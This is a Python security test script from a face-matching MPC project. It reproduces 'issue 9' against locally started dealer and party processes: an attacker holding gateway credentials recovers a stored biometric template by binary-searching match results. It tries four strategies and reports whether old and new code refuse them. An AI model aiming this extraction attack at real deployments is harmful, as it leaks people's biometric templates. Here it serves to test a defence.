"""Issue 9 (High) attack: whoever holds the gateway -> party credential(s) binary-searches a stored template.

Starts real processes of one checkout (``--checkout``): the dealer and parties 0 and 1 (``python -m privface
dealer`` / ``party --rank R``, ``app.cli`` in checkouts older than issue 14, SQLite files, loopback, the real MPC engine), stores one random unit template
(d = 128, 16-bit fixed point, additive shares) with a two-phase store op at both parties, registers the gallery
at threshold 0.5 as the honest gateway does (new code; the old code has no registration route), then plays the
attacker over the raw internal party API (httpx), sending each party its own share of a query e_j (a unit basis
vector) and reading the verify bit (the sum of the two output shares):

* ``threshold``   -- the issue's attack: a chosen ``threshold`` field, binary-searched, so that
                     out = [<t, e_j> >= threshold] reveals t_j to 2 / 2^steps;
* ``reregister``  -- re-register the gallery at a chosen threshold (POST /internal/galleries), then match
                     without a threshold field;
* ``no-threshold``-- the same search with the threshold field left out: the job runs at the gallery's fixed
                     0.5 whatever the attacker "chose";
* ``scaled``      -- the threshold stays the gallery's (0.5, or sent as 0.5 where the party requires the field)
                     but the query is c * e_j with c = 0.5 / guess (|c| <= 64): out = [c t_j >= 0.5] answers
                     "t_j >= guess". The parties only see uniform shares, so only the gateway can check a query's
                     norm; a caller that bypasses the gateway is not checked.

Each strategy's first refusal (4xx at both parties) ends it and is recorded. Prints ONE JSON line: checkout,
commit, coordinates attacked, match jobs sent (calls), HTTP requests, the max abs error of the recovered
coordinates of the issue's attack (``max_abs_err``; null when refused) and of every strategy, refused statuses
seen, seconds. All processes are killed (process groups) on exit, errors included.

Run (old / new code; OLD is a checkout of an older commit, e.g. `git worktree add ../old 5674ff1`):
  cd OLD && PYTHONPATH=$PWD ../main/.venv/bin/python ../main/bench/threshold_search.py --checkout $PWD
  cd main && PYTHONPATH=$PWD .venv/bin/python bench/threshold_search.py --checkout $PWD
"""
from __future__ import annotations

import argparse
import asyncio
import contextlib
import json
import os
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

try:
    from devtools.net import free_port
except ImportError:  # run against an old checkout (PYTHONPATH=OLD, see the docstring) that predates devtools/net.py
    import socket

    def free_port() -> int:
        with socket.socket() as sock:
            sock.bind(("127.0.0.1", 0))
            return int(sock.getsockname()[1])

D = 128
GALLERY = "attack-gallery"
HONEST_THRESHOLD = 0.5
SCALE_MAX = 64.0  # |c| bound of the scaled query: |c * t_j - 0.5| stays < 32 (the 2^38 comparison) for |t_j| < 0.49



class Refused(Exception):
    def __init__(self, status: int | None, slug: str) -> None:
        super().__init__(f"{status} {slug}")
        self.status, self.slug = status, slug


def slug_of(resp) -> str:  # noqa: ANN001
    try:
        body = resp.json()
    except ValueError:
        return resp.text[:80]
    if isinstance(body, dict):
        return str(body.get("type", body.get("detail", ""))).rsplit("/", 1)[-1]
    return str(body)[:80]


class Cluster:
    """Dealer + two parties of one checkout, each in its own process group, logs under ``workdir``."""

    def __init__(self, checkout: Path, workdir: Path, python: str) -> None:
        self.checkout, self.workdir, self.python = checkout, workdir, python
        self.procs: list[tuple[str, subprocess.Popen]] = []
        self.tokens = {"shared": "shared-" + os.urandom(16).hex(),
                       0: "link0-" + os.urandom(16).hex(), 1: "link1-" + os.urandom(16).hex()}
        self.ports = {0: free_port(), 1: free_port()}
        self.urls = {r: f"http://127.0.0.1:{p}" for r, p in self.ports.items()}
        self.master_port = free_port()

    def env(self, role: str) -> dict[str, str]:
        # PRIVFACE_PARTY_MATCH_* pass through: lift the parties' rate limit to test the other defences alone
        env = {k: v for k, v in os.environ.items()
               if not k.startswith("PRIVFACE_") or k.startswith("PRIVFACE_PARTY_MATCH_")}
        mpc = {"PRIVFACE_MPC_SECRET_P0_DEALER": "p0-dealer-" + "a" * 32,
               "PRIVFACE_MPC_SECRET_P1_DEALER": "p1-dealer-" + "b" * 32,
               "PRIVFACE_MPC_SECRET_P0_P1": "p0-p1-" + "c" * 32}
        holders = {"PRIVFACE_MPC_SECRET_P0_DEALER": ("0", "dealer"), "PRIVFACE_MPC_SECRET_P1_DEALER": ("1", "dealer"),
                   "PRIVFACE_MPC_SECRET_P0_P1": ("0", "1")}
        env.update({k: v for k, v in mpc.items() if role in holders[k]})
        env.update({"PRIVFACE_ENV": "test", "PYTHONPATH": str(self.checkout), "PYTHONUNBUFFERED": "1",
                    "PRIVFACE_MPC_MASTER_ADDR": "127.0.0.1", "PRIVFACE_MPC_MASTER_PORT": str(self.master_port),
                    "PRIVFACE_MPC_PROVIDER": "TTP", "PRIVFACE_MPC_DEVICE": "cpu", "PRIVFACE_MPC_TORCH_THREADS": "1",
                    # both generations of credentials, so either code version starts: the old parties read the
                    # shared token, the new ones only their own link's
                    "PRIVFACE_INTERNAL_TOKEN": self.tokens["shared"],
                    "PRIVFACE_PARTY0_TOKEN": self.tokens[0], "PRIVFACE_PARTY1_TOKEN": self.tokens[1]})
        if role in ("0", "1"):
            env.update({"PRIVFACE_PARTY_RANK": role, "PRIVFACE_PARTY_PORT": str(self.ports[int(role)]),
                        "PRIVFACE_PARTY_DATABASE_URL": f"sqlite:///{self.workdir / f'party{role}.db'}",
                        "PRIVFACE_PARTY_LOG_LEVEL": "warning"})
        return env

    def command_module(self) -> str:
        """The `privface` command's module in this checkout: privface/ since issue 14, app/cli.py before."""
        return "privface" if (self.checkout / "privface" / "__main__.py").exists() else "app.cli"

    def start(self) -> None:
        for role, args in (("dealer", ["dealer"]), ("0", ["party", "--rank", "0"]), ("1", ["party", "--rank", "1"])):
            log = open(self.workdir / f"{role}.log", "ab")
            proc = subprocess.Popen([self.python, "-m", self.command_module(), *args], cwd=self.checkout,
                                    env=self.env(role),
                                    stdout=log, stderr=subprocess.STDOUT, start_new_session=True)
            self.procs.append((role, proc))

    def log_tail(self, role: str, n: int = 2000) -> str:
        path = self.workdir / f"{role}.log"
        return path.read_text(errors="replace")[-n:] if path.exists() else ""

    def check_alive(self) -> None:
        for role, proc in self.procs:
            if proc.poll() is not None:
                raise RuntimeError(f"{role} exited ({proc.returncode}): {self.log_tail(role)}")

    def stop(self) -> None:
        for _, proc in self.procs:
            if proc.poll() is None:
                with contextlib.suppress(ProcessLookupError):
                    os.killpg(proc.pid, signal.SIGTERM)
        deadline = time.monotonic() + 10
        for _, proc in self.procs:
            with contextlib.suppress(subprocess.TimeoutExpired):
                proc.wait(max(0.1, deadline - time.monotonic()))
            with contextlib.suppress(ProcessLookupError, PermissionError):  # the group too: the engines' workers
                os.killpg(proc.pid, signal.SIGKILL)
            with contextlib.suppress(subprocess.TimeoutExpired):
                proc.wait(5)


class Attacker:
    """Holds what the gateway holds: the credential(s) of both gateway -> party links."""

    def __init__(self, client, urls: dict[int, str], headers: dict[int, dict]) -> None:  # noqa: ANN001
        self.client, self.urls, self.headers = client, urls, headers
        self.jobs = 0
        self.requests = 0
        self.refused: dict[str, set] = {}

    async def both(self, method: str, path: str, bodies: list[dict | None]) -> list:
        self.requests += 2
        return await asyncio.gather(*(
            self.client.request(method, self.urls[r] + path, json=bodies[r], headers=self.headers[r])
            for r in (0, 1)))

    async def verify_bit(self, query_fixed, threshold: float | None) -> int:  # noqa: ANN001
        from secure.sharing import reconstruct_int, split, to_b64

        q0, q1 = split(query_fixed)
        self.jobs += 1
        common = {"job_id": f"atk-{self.jobs}-{os.urandom(4).hex()}", "kind": "verify",
                  "gallery": GALLERY, "upto_seq": 1, "template_seqs": [1], "timeout_s": 30}
        if threshold is not None:
            common["threshold"] = float(threshold)
        r0, r1 = await self.both("POST", "/internal/match", [{**common, "query_share": to_b64(q0)},
                                                             {**common, "query_share": to_b64(q1)}])
        if r0.status_code != 200 or r1.status_code != 200:
            bad = r0 if r0.status_code != 200 else r1
            raise Refused(bad.status_code, slug_of(bad))
        out = reconstruct_int(int(r0.json()["share"]), int(r1.json()["share"]))
        if out not in (0, 1):
            raise RuntimeError(f"verify output {out}")
        return out

    async def register(self, threshold: float) -> list:
        return await self.both("POST", "/internal/galleries",
                               [{"gallery": GALLERY, "threshold": float(threshold)}] * 2)


async def search(decide, steps: int) -> float:  # noqa: ANN001
    """Binary search of t in [-1, 1] with ``decide(g) = [t >= g]``."""
    lo, hi = -1.0, 1.0
    for _ in range(steps):
        mid = (lo + hi) / 2
        if await decide(mid):
            lo = mid
        else:
            hi = mid
    return (lo + hi) / 2


async def attack(cluster: Cluster, args, t_fixed, coords: list[int]) -> dict:  # noqa: ANN001
    import httpx
    import numpy as np

    from secure import fixedpoint as fp
    from secure.sharing import split, to_b64

    async with httpx.AsyncClient(timeout=60) as client:
        # which credentials open the links (new code: one per link; old code: the shared one)
        headers = {}
        for r in (0, 1):
            for name in (r, "shared"):
                h = {"Authorization": f"Bearer {cluster.tokens[name]}"}
                if (await client.get(cluster.urls[r] + "/internal/state", headers=h)).status_code == 200:
                    headers[r] = h
                    break
            else:
                raise RuntimeError(f"no credential opens party {r}")
        atk = Attacker(client, cluster.urls, headers)
        # -- the honest gateway: store the template (prepare + commit at both), register the gallery at 0.5
        s0, s1 = split(t_fixed)
        replies = await atk.both("POST", "/internal/ops/prepare", [
            {"seq": 1, "kind": "store", "gallery": GALLERY, "template_seq": 1, "share": to_b64(s)}
            for s in (s0, s1)])
        assert all(r.status_code == 200 for r in replies), [r.text for r in replies]
        replies = await atk.both("POST", "/internal/ops/1/commit", [None, None])
        assert all(r.status_code == 200 and r.json()["state"] == "committed" for r in replies), [r.text for r in replies]
        reg = await atk.register(HONEST_THRESHOLD)
        registration = sorted({r.status_code for r in reg})
        if registration == [200]:
            honest = await atk.verify_bit(t_fixed, None)  # the template against itself: a match at 0.5
        else:
            honest = await atk.verify_bit(t_fixed, HONEST_THRESHOLD)
        setup_requests = atk.requests
        atk.jobs = atk.requests = 0

        true_fixed = fp.decode(t_fixed)

        def unit(j: int, c: float = 1.0):  # noqa: ANN202
            e = np.zeros(D)
            e[j] = c
            return fp.encode(e)

        # a party that requires the threshold field (old code) gets the honest 0.5 in the no-threshold strategies
        needs_field = {"value": False}

        async def at_fixed(query) -> int:  # noqa: ANN001
            if not needs_field["value"]:
                try:
                    return await atk.verify_bit(query, None)
                except Refused as exc:
                    if exc.status != 422:
                        raise
                    needs_field["value"] = True
                    atk.refused.setdefault("no-threshold-field", set()).add(f"{exc.status} {exc.slug}")
            return await atk.verify_bit(query, HONEST_THRESHOLD)

        def strategy(name: str):  # noqa: ANN202
            async def decide_threshold(j: int, g: float) -> bool:
                return await atk.verify_bit(unit(j), g) == 1

            async def decide_reregister(j: int, g: float) -> bool:
                reg = await atk.register(g)
                bad = [r for r in reg if r.status_code != 200]
                if bad:
                    raise Refused(bad[0].status_code, slug_of(bad[0]))
                return await atk.verify_bit(unit(j), None) == 1

            async def decide_fixed(j: int, g: float) -> bool:
                return await at_fixed(unit(j)) == 1

            async def decide_scaled(j: int, g: float) -> bool:
                # [c t_j >= 0.5] with c = 0.5 / g: "t_j >= g" for g > 0, "t_j <= g" for g < 0
                mag = max(abs(g), 0.5 / SCALE_MAX)
                c = 0.5 / mag if g >= 0 else -0.5 / mag
                out = await at_fixed(unit(j, c)) == 1
                return out if g >= 0 else not out

            return {"threshold": decide_threshold, "reregister": decide_reregister,
                    "no-threshold": decide_fixed, "scaled": decide_scaled}[name]

        results = {}
        for name in args.strategies:
            decide = strategy(name)
            jobs0, t0 = atk.jobs, time.monotonic()
            got: dict[int, float] = {}
            refused = None
            try:
                for j in coords:
                    got[j] = await search(lambda g, j=j: decide(j, g), args.steps)
            except Refused as exc:
                refused = f"{exc.status} {exc.slug}"
                atk.refused.setdefault(name, set()).add(refused)
            errs = [abs(got[j] - float(true_fixed[j])) for j in got]
            results[name] = {
                "coords_recovered": len(got) if not refused else 0,
                "max_abs_err": float(max(errs)) if errs and not refused else None,
                "max_abs_err_vs_float": (float(max(abs(got[j] - float(args._t_float[j])) for j in got))
                                         if got and not refused else None),
                "calls": atk.jobs - jobs0, "refused": refused, "seconds": round(time.monotonic() - t0, 1),
                "recovered_vs_true": ([[j, round(got[j], 7), round(float(true_fixed[j]), 7)] for j in coords]
                                      if got and not refused else None)}
        return {"registration_status": registration, "honest_self_match": honest, "setup_requests": setup_requests,
                "results": results, "jobs": atk.jobs, "requests": atk.requests,
                "refused": {k: sorted(v) for k, v in atk.refused.items()}}


async def wait_ready(cluster: Cluster, timeout: float) -> float:
    import httpx

    t0 = time.monotonic()
    deadline = t0 + timeout
    async with httpx.AsyncClient(timeout=5) as client:
        while time.monotonic() < deadline:
            cluster.check_alive()
            connected = []
            for r in (0, 1):
                ok = False
                for name in (r, "shared"):
                    try:
                        resp = await client.get(cluster.urls[r] + "/internal/state",
                                                headers={"Authorization": f"Bearer {cluster.tokens[name]}"})
                    except httpx.HTTPError:
                        break
                    if resp.status_code == 200:
                        ok = bool(resp.json().get("mpc", {}).get("connected"))
                        break
                connected.append(ok)
            if all(connected):
                return time.monotonic() - t0
            await asyncio.sleep(1.0)
    raise RuntimeError(f"MPC not connected after {timeout:.0f}s; party 0: {cluster.log_tail('0')}\n"
                       f"party 1: {cluster.log_tail('1')}\ndealer: {cluster.log_tail('dealer')}")


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--checkout", required=True, type=Path, help="the code to attack (its processes are started)")
    ap.add_argument("--coords", type=int, default=8, help="coordinates attacked (K)")
    ap.add_argument("--steps", type=int, default=20, help="binary-search steps per coordinate")
    ap.add_argument("--seed", type=int, default=9)
    ap.add_argument("--strategies", default="threshold,reregister,no-threshold,scaled",
                    help="comma-separated: threshold, reregister, no-threshold, scaled")
    ap.add_argument("--start-timeout", type=float, default=300.0)
    ap.add_argument("--keep-logs", action="store_true")
    args = ap.parse_args()
    args.strategies = [s.strip() for s in args.strategies.split(",") if s.strip()]
    checkout = args.checkout.resolve()
    sys.path.insert(0, str(checkout))  # the project code of --checkout, not of this file's tree
    import numpy as np

    from secure import fixedpoint as fp

    signal.signal(signal.SIGTERM, lambda *_: sys.exit(143))
    t_start = time.monotonic()
    rng = np.random.default_rng(args.seed)
    t = rng.normal(size=D)
    t /= np.linalg.norm(t)
    args._t_float = t
    t_fixed = fp.encode(t)
    coords = sorted(int(j) for j in rng.choice(D, size=min(args.coords, D), replace=False))
    commit = subprocess.run(["git", "-C", str(checkout), "rev-parse", "--short", "HEAD"], capture_output=True,
                            text=True).stdout.strip() or None
    workdir = Path(tempfile.mkdtemp(prefix="threshold_search_"))
    cluster = Cluster(checkout, workdir, sys.executable)
    line: dict = {"checkout": str(checkout), "commit": commit, "d": D, "coords": coords, "steps": args.steps}
    try:
        cluster.start()
        line["startup_s"] = round(asyncio.run(wait_ready(cluster, args.start_timeout)), 1)
        out = asyncio.run(attack(cluster, args, t_fixed, coords))
        res = out["results"]
        main_res = res.get("threshold", {})
        usable = {k: v["max_abs_err"] for k, v in res.items() if v["max_abs_err"] is not None}
        line.update({
            "calls": out["jobs"], "http_requests": out["requests"],
            "max_abs_err": main_res.get("max_abs_err"),
            "refused": sorted({s for v in out["refused"].values() for s in v}),
            "refused_by_strategy": out["refused"],
            "gallery_registration": out["registration_status"], "honest_self_match": out["honest_self_match"],
            "strategies": {k: {kk: vv for kk, vv in v.items() if kk != "recovered_vs_true"} for k, v in res.items()},
            "best_strategy": min(usable, key=lambda name: usable[name]) if usable else None,
            "recovered_vs_true": {k: v["recovered_vs_true"] for k, v in res.items() if v["recovered_vs_true"]},
        })
    except BaseException as exc:
        line["error"] = f"{type(exc).__name__}: {exc}"[:3000]
        raise
    finally:
        cluster.stop()
        line["seconds"] = round(time.monotonic() - t_start, 1)
        print(json.dumps(line), flush=True)
        if not args.keep_logs and "error" not in line:
            import shutil

            shutil.rmtree(workdir, ignore_errors=True)
        else:
            print(f"logs: {workdir}", file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
